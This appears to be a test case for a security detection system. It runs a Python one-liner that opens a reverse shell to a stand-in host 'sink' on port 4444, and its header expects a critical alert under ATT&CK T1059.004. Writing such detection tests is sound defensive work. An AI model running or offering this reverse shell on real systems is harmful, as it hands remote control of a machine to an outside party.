# id: N01c
# title: Python puts a connection under a shell
# expect: alert
# severity: critical
# kinds: process, network
# attck: T1059.004
# image: python
# launch: app
# peers: sink:4444

timeout 5 python3 -c '
import os, socket
peer = socket.create_connection(("sink", 4444))
for fd in 0, 1, 2:
    os.dup2(peer.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])'
exit 0
